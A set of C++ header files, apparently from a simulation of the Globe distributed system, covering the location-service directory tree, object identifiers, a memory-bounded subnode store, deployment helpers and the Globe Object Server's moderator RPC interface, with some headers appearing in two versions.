    write_retry_ = std::move(policy);
  }

  const DirectoryRef& leaf_directory() const { return leaf_; }
  const sim::Channel& channel() const { return rpc_; }

 private:
  // The canonical write budget; mutations are deduped server-side (rpc.h).
  static sim::RetryPolicy DefaultWriteRetry() { return sim::WriteCallOptions().retry; }

  sim::CallOptions MakeCallOptions() const;
  sim::CallOptions MakeWriteCallOptions() const;

  sim::Channel rpc_;
  DirectoryRef leaf_;
  bool allow_cached_ = false;
  RouteMode route_mode_ = RouteMode::kHashOnly;
  sim::RetryPolicy retry_;
  sim::RetryPolicy write_retry_ = DefaultWriteRetry();
  bool write_retry_explicit_ = false;
};

}  // namespace globe::gls

#endif  // SRC_GLS_DIRECTORY_H_
