// The Globe Location Service directory tree (paper §3.5, Figure 2).
//
// Each domain in the Internet hierarchy has a directory node that tracks the
// distributed shared objects with representatives in its domain: either actual
// contact addresses (normally at leaf nodes) or forwarding pointers to child
// directory nodes. Lookups climb from the client's leaf domain until they hit a
// contact address or a forwarding pointer, then descend the pointer chain — so the
// cost of a lookup is proportional to the distance to the nearest replica.
//
// High-level nodes would otherwise become bottlenecks; a directory node is therefore
// partitioned into subnodes, each responsible for a slice of the object-identifier
// space via hashing and each runnable on its own machine
// [Ballintijn and van Steen 1999a]. DirectoryRef is the client-visible handle: the
// subnode set plus the hash routing rule.
//
// RPC methods (port sim::kPortGls on each subnode's host):
//   gls.lookup      : LookupRequest -> LookupResponse
//   gls.insert      : oid, contact address -> empty         (stores + installs pointers)
//   gls.delete      : oid, contact address -> empty         (removes + prunes pointers)
//   gls.install_ptr : oid, child domain -> empty            (internal, child -> parent)
//   gls.remove_ptr  : oid, child domain -> empty            (internal, child -> parent)
//   gls.alloc_oid   : empty -> oid                          (OID allocation, §6.1)

#ifndef SRC_GLS_DIRECTORY_H_
#define SRC_GLS_DIRECTORY_H_

#include <map>
#include <memory>
#include <set>
#include <vector>

#include "src/gls/oid.h"
#include "src/sec/principal.h"
#include "src/sim/rpc.h"
#include "src/sim/topology.h"

namespace globe::gls {

// Handle to a (possibly partitioned) directory node: route by OID hash.
struct DirectoryRef {
  std::vector<sim::Endpoint> subnodes;

  bool empty() const { return subnodes.empty(); }
  sim::Endpoint Route(const ObjectId& oid) const {
    return subnodes[oid.Hash() % subnodes.size()];
  }
};

struct LookupResponse {
  std::vector<ContactAddress> addresses;
  uint32_t hops = 0;       // directory-to-directory messages traversed
  int32_t found_depth = 0;  // tree depth of the node holding the addresses
  int32_t apex_depth = 0;   // highest (smallest-depth) node the lookup visited

  Bytes Serialize() const;
  static Result<LookupResponse> Deserialize(ByteSpan data);
};

struct GlsOptions {
  // Paper §6.1 requirement 2: "The Globe Location Service should accept only object
  // registrations (and deregistrations) from Globe Object Servers which are
  // officially part of the GDN." When true, mutating methods require an
  // authenticated peer whose registry role is kGdnHost or kAdministrator.
  bool enforce_authorization = false;
};

struct SubnodeStats {
  uint64_t lookups = 0;
  uint64_t found_local = 0;
  uint64_t forwards_up = 0;
  uint64_t forwards_down = 0;
  uint64_t inserts = 0;
  uint64_t deletes = 0;
  uint64_t pointer_installs = 0;
  uint64_t pointer_removes = 0;
  uint64_t denied = 0;
};

class DirectorySubnode {
 public:
  DirectorySubnode(sim::Transport* transport, sim::NodeId host, sim::DomainId domain,
                   int depth, GlsOptions options, const sec::KeyRegistry* registry,
                   uint64_t rng_seed);

  void SetParent(DirectoryRef parent) { parent_ = std::move(parent); }
  void AddChild(sim::DomainId child_domain, DirectoryRef ref) {
    children_[child_domain] = std::move(ref);
  }

  sim::Endpoint endpoint() const { return server_.endpoint(); }
  sim::NodeId host() const { return server_.node(); }
  sim::DomainId domain() const { return domain_; }
  int depth() const { return depth_; }
  const SubnodeStats& stats() const { return stats_; }

  // Directly visible state, for tests and the persistence machinery.
  size_t NumAddresses(const ObjectId& oid) const;
  size_t NumPointers(const ObjectId& oid) const;
  size_t TotalEntries() const;

  // Persistence: "persistent storage of the state of a directory node (location
  // information and forwarding pointers)" with "a simple crash recovery mechanism"
  // (paper §7).
  Bytes SaveState() const;
  Status RestoreState(ByteSpan data);

 private:
  static constexpr uint8_t kPhaseUp = 0;
  static constexpr uint8_t kPhaseDown = 1;

  void HandleLookup(const sim::RpcContext& context, ByteSpan request,
                    sim::RpcServer::Responder respond);
  void HandleInsert(const sim::RpcContext& context, ByteSpan request,
                    sim::RpcServer::Responder respond);
  void HandleDelete(const sim::RpcContext& context, ByteSpan request,
                    sim::RpcServer::Responder respond);
  void HandleInstallPtr(const sim::RpcContext& context, ByteSpan request,
                        sim::RpcServer::Responder respond);
  void HandleRemovePtr(const sim::RpcContext& context, ByteSpan request,
                       sim::RpcServer::Responder respond);

  Status CheckAuthorized(const sim::RpcContext& context) const;

  // Continues an insert by installing the forwarding pointer chain towards the root,
  // then responds.
  void PropagatePointerUp(const ObjectId& oid, sim::RpcServer::Responder respond);
  // Continues a delete by pruning the pointer chain, then responds.
  void PropagateRemoveUp(const ObjectId& oid, sim::RpcServer::Responder respond);

  sim::RpcServer server_;
  std::unique_ptr<sim::RpcClient> client_;
  sim::DomainId domain_;
  int depth_;
  GlsOptions options_;
  const sec::KeyRegistry* registry_;
  Rng rng_;

  DirectoryRef parent_;
  std::map<sim::DomainId, DirectoryRef> children_;
  std::map<ObjectId, std::vector<ContactAddress>> addresses_;
  std::map<ObjectId, std::set<sim::DomainId>> pointers_;
  SubnodeStats stats_;
};

struct LookupResult {
  std::vector<ContactAddress> addresses;
  uint32_t hops = 0;
  int32_t found_depth = 0;
  int32_t apex_depth = 0;
};

// Client-side stub: the run-time-system piece that talks to the leaf directory node
// of the domain its process lives in.
class GlsClient {
 public:
  GlsClient(sim::Transport* transport, sim::NodeId node, DirectoryRef leaf_directory);

  using LookupCallback = std::function<void(Result<LookupResult>)>;
  using DoneCallback = std::function<void(Status)>;
  using OidCallback = std::function<void(Result<ObjectId>)>;

  void Lookup(const ObjectId& oid, LookupCallback done);
  void Insert(const ObjectId& oid, const ContactAddress& address, DoneCallback done);
  void Delete(const ObjectId& oid, const ContactAddress& address, DoneCallback done);
  void AllocateOid(OidCallback done);

  const DirectoryRef& leaf_directory() const { return leaf_; }

 private:
  sim::RpcClient rpc_;
  DirectoryRef leaf_;
};

}  // namespace globe::gls

#endif  // SRC_GLS_DIRECTORY_H_
