// Object identifiers and contact addresses — the two value types the Globe Location
// Service deals in (paper §3.4): a worldwide-unique, location-independent OID is
// mapped by the GLS to the contact addresses of the object's replicas, each of which
// says where (network address, port) and how (replication protocol) to reach a local
// representative.

#ifndef SRC_GLS_OID_H_
#define SRC_GLS_OID_H_

#include <array>
#include <cstdint>
#include <string>

#include "src/sim/endpoint.h"
#include "src/util/rng.h"
#include "src/util/serial.h"
#include "src/util/status.h"

namespace globe::gls {

class ObjectId {
 public:
  static constexpr size_t kSize = 16;  // 128-bit identifiers

  ObjectId() { bytes_.fill(0); }

  static ObjectId Generate(Rng* rng);
  static Result<ObjectId> FromHex(std::string_view hex);

  std::string ToHex() const;
  bool IsNil() const;

  // Stable hash used for subnode partitioning ("a special hashing technique", §3.5)
  // — FNV-1a over the identifier bytes.
  uint64_t Hash() const;

  void Serialize(ByteWriter* writer) const;
  static Result<ObjectId> Deserialize(ByteReader* reader);

  bool operator==(const ObjectId&) const = default;
  auto operator<=>(const ObjectId&) const = default;

 private:
  std::array<uint8_t, kSize> bytes_;
};

// Identifies a replication protocol inside a contact address. The concrete protocol
// implementations live in src/dso; the GLS treats this as an opaque number.
using ProtocolId = uint16_t;

// The role a local representative plays within its distributed shared object.
enum class ReplicaRole : uint8_t {
  kMaster = 0,  // authoritative copy (client/server server, master/slave master)
  kSlave = 1,   // secondary replica
  kCache = 2,   // demand-loaded cache (e.g. in a GDN-HTTPD)
};

std::string_view ReplicaRoleName(ReplicaRole role);

struct ContactAddress {
  sim::Endpoint endpoint;
  ProtocolId protocol = 0;
  ReplicaRole role = ReplicaRole::kMaster;

  bool operator==(const ContactAddress&) const = default;
  auto operator<=>(const ContactAddress&) const = default;

  void Serialize(ByteWriter* writer) const;
  static Result<ContactAddress> Deserialize(ByteReader* reader);
  std::string ToString() const;
};

}  // namespace globe::gls

#endif  // SRC_GLS_OID_H_
