// Memory-bounded per-subnode directory storage.
//
// A planet-scale world registers millions of OIDs, but a directory subnode's
// working set at any moment is much smaller (Zipf: a few hot objects take most
// of the traffic). SubnodeStore therefore keeps a bounded number of entries
// resident — hashed map + LRU list — and spills the cold tail to a per-subnode
// cold store of serialized blobs, the simulation stand-in for the paper's §7
// on-disk directory state. Access to a spilled entry transparently faults it
// back in (and may evict another). Nothing is ever lost to eviction: an entry
// leaves the store only through explicit Erase.
//
// One entry merges what DirectorySubnode historically kept in two parallel
// maps: the contact addresses registered at this node and the forwarding
// pointers to child domains. Merging them halves the hash lookups on the
// mutation path and makes spill/fault-in atomic per OID.
//
// Iteration order guarantee: ForEachSorted visits entries in ascending OID
// order regardless of hot/cold placement, so serialized subnode state (and its
// hash) is independent of the access pattern that shaped the LRU — the
// determinism suite relies on this.

#ifndef SRC_GLS_SUBNODE_STORE_H_
#define SRC_GLS_SUBNODE_STORE_H_

#include <algorithm>
#include <cstdint>
#include <functional>
#include <list>
#include <map>
#include <set>
#include <unordered_map>
#include <utility>
#include <vector>

#include "src/gls/oid.h"
#include "src/sim/topology.h"

namespace globe::gls {

struct OidHash {
  size_t operator()(const ObjectId& oid) const { return oid.Hash(); }
};

// Everything a directory subnode knows about one OID (ownership records are
// kept separately: they exist only at the root home and are never evicted).
struct DirectoryEntry {
  std::vector<ContactAddress> addresses;
  std::set<sim::DomainId> pointers;

  bool Empty() const { return addresses.empty() && pointers.empty(); }
};

class SubnodeStore {
 public:
  // `capacity` bounds the number of resident (hot) entries; 0 = unbounded,
  // which preserves the historical everything-in-memory behaviour.
  explicit SubnodeStore(size_t capacity = 0) : capacity_(capacity) {
    if (capacity_ > 0) {
      hot_.reserve(capacity_ + 1);
    }
  }

  // Mutable entry for `oid`, created if absent, faulted in if spilled. The
  // reference is invalidated by any other non-const call on the store — take
  // it, mutate, let go.
  DirectoryEntry& Mutable(const ObjectId& oid);

  // Entry for `oid` or nullptr (never creates); faults a spilled entry back in
  // (LRU promote). Same reference lifetime rule as Mutable.
  DirectoryEntry* Find(const ObjectId& oid);

  // Read-only probe that never disturbs the LRU: a hot entry is returned by
  // pointer (into `scratch`-independent storage), a cold entry is deserialized
  // into `*scratch`. Returns nullptr if the OID is unknown.
  const DirectoryEntry* Peek(const ObjectId& oid, DirectoryEntry* scratch) const;

  bool Contains(const ObjectId& oid) const {
    return hot_.count(oid) > 0 || cold_.count(oid) > 0;
  }

  // Removes the entry wherever it lives. Call after a mutation leaves an
  // entry Empty(): empty entries are never spilled, they are dropped.
  void Erase(const ObjectId& oid);

  size_t Size() const { return hot_.size() + cold_.size(); }
  size_t ResidentSize() const { return hot_.size(); }
  size_t capacity() const { return capacity_; }

  // Visits every entry in ascending OID order, independent of placement; cold
  // entries are materialized transiently without being faulted in.
  void ForEachSorted(
      const std::function<void(const ObjectId&, const DirectoryEntry&)>& fn) const;

  void Clear();

  // Spill/fault accounting (monotone over the store's lifetime).
  uint64_t evictions() const { return evictions_; }
  uint64_t fault_ins() const { return fault_ins_; }
  uint64_t spilled_bytes() const { return spilled_bytes_; }
  size_t peak_resident() const { return peak_resident_; }

  static Bytes SerializeEntry(const DirectoryEntry& entry);
  static Result<DirectoryEntry> DeserializeEntry(ByteSpan data);

 private:
  struct HotEntry {
    DirectoryEntry entry;
    std::list<ObjectId>::iterator lru_it;  // position in lru_ (front = hottest)
  };

  // Moves `it` to the LRU front.
  void Touch(HotEntry& hot) { lru_.splice(lru_.begin(), lru_, hot.lru_it); }
  // Inserts a hot entry at the LRU front and returns it.
  HotEntry& InsertHot(const ObjectId& oid, DirectoryEntry entry);
  // Evicts LRU-tail entries until the resident count is within capacity.
  void EnforceCapacity();

  size_t capacity_;
  std::unordered_map<ObjectId, HotEntry, OidHash> hot_;
  std::list<ObjectId> lru_;
  // The cold store: serialized entries, the stand-in for per-subnode disk.
  // Ordered so ForEachSorted can merge with a sorted view of the hot set.
  std::map<ObjectId, Bytes> cold_;

  uint64_t evictions_ = 0;
  uint64_t fault_ins_ = 0;
  uint64_t spilled_bytes_ = 0;
  size_t peak_resident_ = 0;
};

}  // namespace globe::gls

#endif  // SRC_GLS_SUBNODE_STORE_H_
