// Deployment helper: instantiates a Globe Location Service over a topology.
//
// For every domain in the tree it creates a directory node — partitioned into a
// configurable number of subnodes, each hosted on its own machine added to the
// topology — and wires up the parent/child DirectoryRefs. Call this before
// constructing the Network if the network should know about the directory hosts
// (Topology is only read by Network at send time, so adding hosts first is the
// simple, safe order).

#ifndef SRC_GLS_DEPLOY_H_
#define SRC_GLS_DEPLOY_H_

#include <functional>
#include <map>
#include <memory>
#include <vector>

#include "src/gls/directory.h"

namespace globe::gls {

struct GlsDeploymentOptions {
  GlsOptions node_options;
  // Number of subnodes for a domain, given its id and depth (root = 0). Default: one
  // subnode everywhere; E2 overrides this for the root.
  std::function<int(sim::DomainId, int depth)> subnode_count;
  uint64_t rng_seed = 0x915;
};

class GlsDeployment {
 public:
  // Builds the service. `topology` gains one host per subnode (named
  // "gls.<domain>.<i>"). `on_host_created` (optional) lets the caller install host
  // credentials on a secure transport before any traffic flows.
  GlsDeployment(sim::Transport* transport, sim::Topology* topology,
                const sec::KeyRegistry* registry, GlsDeploymentOptions options = {},
                std::function<void(sim::NodeId)> on_host_created = nullptr);

  // The directory node handle for a domain.
  const DirectoryRef& DirectoryFor(sim::DomainId domain) const;

  // The leaf directory a process on `host` should talk to: the directory of the
  // domain the host is attached to.
  const DirectoryRef& LeafDirectoryFor(sim::NodeId host) const;

  // Creates a client bound to the correct leaf directory for a host.
  std::unique_ptr<GlsClient> MakeClient(sim::NodeId host) const;

  const std::vector<std::unique_ptr<DirectorySubnode>>& subnodes() const { return subnodes_; }

  // All subnodes of one domain (for load inspection in E2).
  std::vector<const DirectorySubnode*> SubnodesOf(sim::DomainId domain) const;

  // Aggregate statistics over every subnode.
  SubnodeStats TotalStats() const;

 private:
  sim::Transport* transport_;
  const sim::Topology* topology_;
  std::map<sim::DomainId, DirectoryRef> directories_;
  std::vector<std::unique_ptr<DirectorySubnode>> subnodes_;
};

}  // namespace globe::gls

#endif  // SRC_GLS_DEPLOY_H_
