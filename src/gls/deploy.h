// Deployment helper: instantiates a Globe Location Service over a topology.
//
// For every domain in the tree it creates a directory node — partitioned into a
// configurable number of subnodes, each hosted on its own machine added to the
// topology — and wires up the parent/child DirectoryRefs. Call this before
// constructing the Network if the network should know about the directory hosts
// (Topology is only read by Network at send time, so adding hosts first is the
// simple, safe order).

#ifndef SRC_GLS_DEPLOY_H_
#define SRC_GLS_DEPLOY_H_

#include <functional>
#include <map>
#include <memory>
#include <vector>

#include "src/gls/directory.h"

namespace globe::gls {

struct GlsDeploymentOptions {
  GlsOptions node_options;
  // Number of subnodes for a domain, given its id and depth (root = 0). Default: one
  // subnode everywhere; E2 overrides this for the root.
  std::function<int(sim::DomainId, int depth)> subnode_count;
  uint64_t rng_seed = 0x915;
};

class GlsDeployment {
 public:
  // Builds the service. `topology` gains one host per subnode (named
  // "gls.<domain>.<i>"). `on_host_created` (optional) lets the caller install host
  // credentials on a secure transport before any traffic flows.
  GlsDeployment(sim::Transport* transport, sim::Topology* topology,
                const sec::KeyRegistry* registry, GlsDeploymentOptions options = {},
                std::function<void(sim::NodeId)> on_host_created = nullptr);

  // The directory node handle for a domain.
  const DirectoryRef& DirectoryFor(sim::DomainId domain) const;

  // The leaf directory a process on `host` should talk to: the directory of the
  // domain the host is attached to.
  const DirectoryRef& LeafDirectoryFor(sim::NodeId host) const;

  // Creates a client bound to the correct leaf directory for a host.
  std::unique_ptr<GlsClient> MakeClient(sim::NodeId host) const;

  const std::vector<std::unique_ptr<DirectorySubnode>>& subnodes() const { return subnodes_; }

  // All subnodes of one domain (for load inspection in E2).
  std::vector<const DirectorySubnode*> SubnodesOf(sim::DomainId domain) const;

  // Aggregate statistics over every subnode.
  SubnodeStats TotalStats() const;

  // Re-partitions one domain's directory node to `new_subnode_count` subnodes
  // (must exceed the current count). New hosts are added to the topology, every
  // directory entry and ownership record is redistributed by the new hash rule,
  // and the parent/child/self refs of every affected subnode are rewired.
  // Callers must split before handing out client refs (or re-issue them): a
  // client still routing by the old ref would misdirect mutations.
  void SplitDirectoryNode(sim::DomainId domain, int new_subnode_count);

  // Capacity-driven splitting: doubles the subnode count of any domain whose
  // fullest subnode holds more than `max_entries_per_subnode` directory
  // entries (resident + spilled). Returns the number of domains split.
  int SplitOverloadedNodes(size_t max_entries_per_subnode);

 private:
  // Creates one subnode host for `domain` (depth `depth`, slot `index`) and
  // returns the subnode; shared by the constructor and SplitDirectoryNode.
  std::unique_ptr<DirectorySubnode> MakeSubnode(sim::DomainId domain, int depth,
                                                int index);

  sim::Transport* transport_;
  sim::Topology* topology_;
  const sec::KeyRegistry* registry_;
  GlsDeploymentOptions options_;
  std::function<void(sim::NodeId)> on_host_created_;
  std::map<sim::DomainId, DirectoryRef> directories_;
  std::vector<std::unique_ptr<DirectorySubnode>> subnodes_;
};

}  // namespace globe::gls

#endif  // SRC_GLS_DEPLOY_H_
