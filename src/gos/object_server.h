// The Globe Object Server (GOS): "an application-independent daemon for hosting
// replicas of any kind of distributed shared object" (paper §4).
//
// Moderator tools drive it with two commands (paper §6.1, "Adding and Removing
// Packages"): "create first replica" — which allocates an object identifier through
// the GLS, builds a master replica and registers its contact address — and "bind to
// DSO <OID>, create replica" — which looks the object up, builds a secondary replica
// of the object's protocol and registers it too.
//
// "Globe Object Servers allow replicas to save their state during a reboot and
// reconstruct themselves afterwards" (§4): Checkpoint() serializes every hosted
// replica (OID, protocol, role, semantics type and state, old contact address);
// Restore() rebuilds them on fresh ports, deregisters the stale contact addresses
// from the GLS and registers the new ones.
//
// RPC methods (port sim::kPortGos), moderator-only when a registry is enforced
// (§6.1 requirement 1):
//   gos.create_first_replica : u16 protocol, u16 semantics_type -> OID, contact addr
//   gos.create_replica       : OID, u16 semantics_type, u8 role -> contact addr
//   gos.remove_replica       : OID -> empty
//   gos.list_replicas        : empty -> vector<OID>

#ifndef SRC_GOS_OBJECT_SERVER_H_
#define SRC_GOS_OBJECT_SERVER_H_

#include <map>
#include <memory>
#include <vector>

#include "src/ctl/metrics_registry.h"
#include "src/dso/protocols.h"
#include "src/dso/repository.h"
#include "src/gls/directory.h"

namespace globe::gos {

namespace wire {

inline void SerializeMaintainers(const std::vector<sec::PrincipalId>& maintainers,
                                 ByteWriter* w) {
  w->WriteVarint(maintainers.size());
  for (sec::PrincipalId maintainer : maintainers) {
    w->WriteU64(maintainer);
  }
}

// Maintainer lists ride as an optional trailer so pre-maintainer requests (and
// checkpoints) stay readable.
inline Result<std::vector<sec::PrincipalId>> DeserializeMaintainers(ByteReader* r) {
  std::vector<sec::PrincipalId> maintainers;
  if (r->AtEnd()) {
    return maintainers;
  }
  ASSIGN_OR_RETURN(uint64_t count, r->ReadVarint());
  for (uint64_t i = 0; i < count; ++i) {
    ASSIGN_OR_RETURN(sec::PrincipalId id, r->ReadU64());
    maintainers.push_back(id);
  }
  return maintainers;
}

}  // namespace wire

// Wire formats of the moderator-facing GOS commands; one definition shared by
// ObjectServer (server side) and ModeratorTool (client side).
struct CreateFirstReplicaRequest {
  gls::ProtocolId protocol = 0;
  uint16_t semantics_type = 0;
  std::vector<sec::PrincipalId> maintainers;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteU16(protocol);
    w.WriteU16(semantics_type);
    wire::SerializeMaintainers(maintainers, &w);
    return w.Take();
  }
  static Result<CreateFirstReplicaRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    CreateFirstReplicaRequest request;
    ASSIGN_OR_RETURN(request.protocol, r.ReadU16());
    ASSIGN_OR_RETURN(request.semantics_type, r.ReadU16());
    ASSIGN_OR_RETURN(request.maintainers, wire::DeserializeMaintainers(&r));
    return request;
  }
};

struct CreateFirstReplicaResponse {
  gls::ObjectId oid;
  gls::ContactAddress address;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    address.Serialize(&w);
    return w.Take();
  }
  static Result<CreateFirstReplicaResponse> Deserialize(ByteSpan data) {
    ByteReader r(data);
    CreateFirstReplicaResponse response;
    ASSIGN_OR_RETURN(response.oid, gls::ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(response.address, gls::ContactAddress::Deserialize(&r));
    return response;
  }
};

struct CreateReplicaRequest {
  gls::ObjectId oid;
  uint16_t semantics_type = 0;
  gls::ReplicaRole role = gls::ReplicaRole::kSlave;
  std::vector<sec::PrincipalId> maintainers;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU16(semantics_type);
    w.WriteU8(static_cast<uint8_t>(role));
    wire::SerializeMaintainers(maintainers, &w);
    return w.Take();
  }
  static Result<CreateReplicaRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    CreateReplicaRequest request;
    ASSIGN_OR_RETURN(request.oid, gls::ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.semantics_type, r.ReadU16());
    ASSIGN_OR_RETURN(uint8_t role, r.ReadU8());
    request.role = static_cast<gls::ReplicaRole>(role);
    ASSIGN_OR_RETURN(request.maintainers, wire::DeserializeMaintainers(&r));
    return request;
  }
};

struct CreateReplicaResponse {
  gls::ContactAddress address;

  Bytes Serialize() const {
    ByteWriter w;
    address.Serialize(&w);
    return w.Take();
  }
  static Result<CreateReplicaResponse> Deserialize(ByteSpan data) {
    ByteReader r(data);
    CreateReplicaResponse response;
    ASSIGN_OR_RETURN(response.address, gls::ContactAddress::Deserialize(&r));
    return response;
  }
};

struct RemoveReplicaRequest {
  gls::ObjectId oid;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    return w.Take();
  }
  static Result<RemoveReplicaRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    RemoveReplicaRequest request;
    ASSIGN_OR_RETURN(request.oid, gls::ObjectId::Deserialize(&r));
    return request;
  }
};

struct ListReplicasResponse {
  std::vector<gls::ObjectId> oids;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteVarint(oids.size());
    for (const gls::ObjectId& oid : oids) {
      oid.Serialize(&w);
    }
    return w.Take();
  }
  static Result<ListReplicasResponse> Deserialize(ByteSpan data) {
    ByteReader r(data);
    ListReplicasResponse response;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(gls::ObjectId oid, gls::ObjectId::Deserialize(&r));
      response.oids.push_back(oid);
    }
    return response;
  }
};

// The moderator commands mutate hosting state (and allocate OIDs through the
// GLS), so a duplicate delivery must replay the first execution's response: a
// repeated create must not build a second replica or mint a second OID, and a
// repeated remove must not turn success into NotFound.
inline constexpr sim::TypedMethod<CreateFirstReplicaRequest, CreateFirstReplicaResponse>
    kGosCreateFirstReplica{"gos.create_first_replica", sim::kNonIdempotent};
inline constexpr sim::TypedMethod<CreateReplicaRequest, CreateReplicaResponse>
    kGosCreateReplica{"gos.create_replica", sim::kNonIdempotent};
inline constexpr sim::TypedMethod<RemoveReplicaRequest, sim::EmptyMessage>
    kGosRemoveReplica{"gos.remove_replica", sim::kNonIdempotent};
inline constexpr sim::TypedMethod<sim::EmptyMessage, ListReplicasResponse>
    kGosListReplicas{"gos.list_replicas"};

struct GosOptions {
  // Enforce "commands only from GDN moderators" (paper §6.1 requirement 1).
  bool enforce_authorization = false;
  // Guard installed on hosted replicas' write paths (see dso::WriteGuard).
  dso::WriteGuard replica_write_guard;
  // GLS-driven master fail-over for hosted master/slave and active replicas
  // (see dso::ReplicaGroup): masters lease their ownership through the GLS and
  // broadcast renewals; slaves that miss renewals race gls.claim_master. Off by
  // default — the lease timers keep the simulator queue non-empty, so tests
  // that drain with Run() must opt in and drive time with RunUntil.
  bool enable_failover = false;
  sim::SimTime failover_lease_interval = 2 * sim::kSecond;
  sim::SimTime failover_lease_timeout = 5 * sim::kSecond;
  // Quorum-acknowledged writes on hosted replicas (see dso::FailoverConfig::
  // quorum): a write is acked only once a strict majority of the group durably
  // holds it and its commit floor is published to the GLS arbiter; a master
  // partitioned from all members refuses writes instead of executing alone.
  // Requires enable_failover.
  bool failover_quorum = false;
  // Maps a client NodeId to the region bucket the replication controller
  // reasons in (under the GDN world: the country index). Unset = one region.
  ctl::RegionFn region_of;
};

struct GosStats {
  uint64_t replicas_created = 0;
  uint64_t replicas_removed = 0;
  uint64_t commands_denied = 0;
  uint64_t checkpoints = 0;
  uint64_t restores = 0;
  uint64_t protocol_switches = 0;
  // Retired replica endpoints answering with an immediate "object migrated"
  // error so stale bindings fail fast instead of waiting out RPC deadlines.
  uint64_t tombstones = 0;
  // Replicas hosted *elsewhere* (e.g. HTTPD-side replicas installed via
  // bind_as_replica) retired by a protocol switch here: each one accepted a
  // dso.retire carrying the new incarnation's epoch and now refuses traffic.
  uint64_t foreign_retires = 0;
};

class ObjectServer {
 public:
  ObjectServer(sim::Transport* transport, sim::NodeId host,
               const dso::ImplementationRepository* repository,
               gls::DirectoryRef leaf_directory, const sec::KeyRegistry* registry,
               GosOptions options = {});

  sim::Endpoint endpoint() const { return server_.endpoint(); }
  sim::NodeId host() const { return server_.node(); }
  const GosStats& stats() const { return stats_; }
  size_t num_replicas() const { return replicas_.size(); }

  // Direct access to a hosted replica's replication object (tests, benches).
  dso::ReplicationObject* FindReplica(const gls::ObjectId& oid);

  // The replication protocol / semantics type a hosted replica runs, or 0 if
  // the object is not hosted here.
  gls::ProtocolId ProtocolOf(const gls::ObjectId& oid) const;
  uint16_t SemanticsTypeOf(const gls::ObjectId& oid) const;

  // Every OID with a replica hosted here (the local flavor of gos.list_replicas).
  std::vector<gls::ObjectId> ReplicaOids() const {
    std::vector<gls::ObjectId> oids;
    for (const auto& [oid, replica] : replicas_) {
      oids.push_back(oid);
    }
    return oids;
  }

  // Per-object access telemetry for every replica this server hosts; the
  // replication controller (src/ctl) reads its decisions from here.
  ctl::MetricsRegistry* metrics() { return &metrics_; }
  const ctl::MetricsRegistry& metrics() const { return metrics_; }

  // Live policy migration (the GOS half of ctl::PolicyActuator::Migrate): tears
  // the hosted replica down, rebuilds it under `new_protocol` with the same
  // semantics state and version, bumps the group epoch by one so in-flight
  // traffic fenced on the old epoch cannot land on the new incarnation, and
  // swaps the GLS registration to the new contact address. The object must be
  // hosted here in the master role.
  void SwitchProtocol(const gls::ObjectId& oid, gls::ProtocolId new_protocol,
                      std::function<void(Status)> done);

  // Persistence: full-state snapshot of every hosted replica.
  Bytes Checkpoint() const;

  // Rebuilds replicas from a checkpoint after a restart. Must be called on a freshly
  // constructed server. `done` fires after every replica is re-registered in the GLS.
  void Restore(ByteSpan checkpoint, std::function<void(Status)> done);

  // Takes the server out of service: shuts down every hosted replica and
  // deregisters all their contact addresses in one gls.delete_batch round trip.
  void Decommission(std::function<void(Status)> done);

  // Local (non-RPC) variants of the moderator commands, used by in-process tools.
  using CreateCallback =
      std::function<void(Result<std::pair<gls::ObjectId, gls::ContactAddress>>)>;
  // `maintainers` (paper §2 future work): principals additionally allowed to modify
  // this package — "a GDN maintainer is allowed to manage just the contents of a
  // package". They widen the replica's write guard for this object only.
  void CreateFirstReplica(gls::ProtocolId protocol, uint16_t semantics_type,
                          CreateCallback done,
                          std::vector<sec::PrincipalId> maintainers = {});
  void CreateReplica(const gls::ObjectId& oid, uint16_t semantics_type,
                     gls::ReplicaRole role, CreateCallback done,
                     std::vector<sec::PrincipalId> maintainers = {});
  void RemoveReplica(const gls::ObjectId& oid, std::function<void(Status)> done);

 private:
  struct HostedReplica {
    gls::ProtocolId protocol = 0;
    uint16_t semantics_type = 0;
    gls::ReplicaRole role = gls::ReplicaRole::kMaster;
    std::vector<sec::PrincipalId> maintainers;
    std::unique_ptr<dso::ReplicationObject> replication;
    // Pointer into the replication object's semantics (owned there) for state access.
    dso::SemanticsObject* semantics = nullptr;
    gls::ContactAddress registered_address;
  };

  Status CheckModerator(const sim::RpcContext& context) const;
  // The replica write guard for a package with the given maintainers: the world
  // guard passes, or the authenticated peer is one of the maintainers.
  dso::WriteGuard GuardFor(std::vector<sec::PrincipalId> maintainers) const;
  // The fail-over wiring for a hosted replica of `oid` (disabled config when
  // the server does not opt in).
  dso::FailoverConfig FailoverFor(const gls::ObjectId& oid) const;
  // The address a replica currently advertises — its registration may have been
  // rewritten by a fail-over role change since InstallReplica recorded it.
  static gls::ContactAddress CurrentAddress(const HostedReplica& replica);
  // Builds, starts and GLS-registers a replica; shared by both create paths.
  void InstallReplica(const gls::ObjectId& oid, gls::ProtocolId protocol,
                      uint16_t semantics_type, gls::ReplicaRole role,
                      std::vector<gls::ContactAddress> peers,
                      std::vector<sec::PrincipalId> maintainers, CreateCallback done);
  // The rebuild half of SwitchProtocol, run one event after the old replica's
  // shutdown so destroying that replica happens off its own call stack.
  void RebuildAs(const gls::ObjectId& oid, gls::ProtocolId new_protocol,
                 const Bytes& state, uint64_t version, uint64_t epoch,
                 const gls::ContactAddress& old_address, uint16_t semantics_type,
                 std::vector<sec::PrincipalId> maintainers,
                 std::function<void(Status)> done);
  // Registers a responder on a retired replica port that fails every dso.*
  // call immediately with "object migrated". The simulated network drops
  // datagrams to closed ports silently, so without this, every client still
  // bound to the old endpoint waits out a full RPC deadline before its
  // rebind-on-failure logic (e.g. GdnHttpd's) can kick in.
  void TombstoneEndpoint(const gls::ObjectId& oid, const sim::Endpoint& endpoint);
  // The teardown half of a protocol switch for replicas this server does NOT
  // host: every address still registered for `oid` other than the fresh
